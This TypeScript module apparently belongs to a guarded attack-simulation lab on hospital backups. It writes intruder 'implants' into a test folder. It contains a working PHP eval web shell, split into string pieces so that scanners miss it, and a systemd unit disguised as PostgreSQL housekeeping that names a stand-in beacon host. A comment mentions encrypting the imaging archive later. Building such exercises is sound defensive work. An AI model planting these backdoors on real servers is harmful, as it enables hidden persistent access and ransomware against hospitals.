import { closeSync, constants, fchmodSync, openSync, writeSync } from 'node:fs';
import { posix } from 'node:path';
import type { Part } from '../backups.ts';
import { checkTarget, runToken } from './guards.ts';

/** What an intruder leaves in a folder, to come back by. Bytes nobody runs: nothing of the lab reads PHP, nor units of that name. */
export interface Implant {
  /** Path below the target; its folder is already there. */
  path: string;
  content: string;
}

/** Among the reports, where a server of documents would run it. In pieces: no guard of a checkout's own machine is to find it here. */
const WEB_SHELL: Implant = {
  path: 'documents/apercu.php',
  content: ['<?p', 'hp @ev', 'al(base64_decode($_PO', "ST['apercu'])); ?>\n"].join(''),
};

/** Named as the database's own housekeeping is; only who was told of its address and its mark can know it. */
const BEACON: Implant = {
  path: 'pg_stat_housekeeping.service',
  content: `[Unit]
Description=PostgreSQL statistics housekeeping

[Service]
ExecStart=/bin/true --report stats.releve-meteo.invalid:443 --site VS-7f31c0
Restart=always
`,
};

/** The parts of the hospital the intruder comes back by. The imaging archive is left alone until it is encrypted. */
export const IMPLANTS: { readonly [Name in Part]?: Implant } = { application: WEB_SHELL, database: BEACON };

/** Lays an implant in a folder the lab gave to the attacker. Throws AttackRefused when a guard does not hold. */
export function plant(runFolder: string, target: string, { path, content }: Implant): void {
  checkTarget(target, runFolder, runToken(runFolder));
  const { O_RDONLY, O_DIRECTORY, O_NOFOLLOW, O_WRONLY, O_CREAT, O_EXCL } = constants;
  const [name = '', ...above] = path.split(posix.sep).toReversed();
  let folder = openSync(target, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
  try {
    // Through each open directory: one swapped for a link meanwhile leads nowhere else.
    for (const next of above.toReversed()) {
      const below = openSync(`/proc/self/fd/${folder}/${next}`, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
      closeSync(folder);
      folder = below;
    }
    const file = openSync(`/proc/self/fd/${folder}/${name}`, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0o644);
    try {
      writeSync(file, content);
      // The services' account must read it to back it up, whatever the umask.
      fchmodSync(file, 0o644);
    } finally {
      closeSync(file);
    }
  } finally {
    closeSync(folder);
  }
}
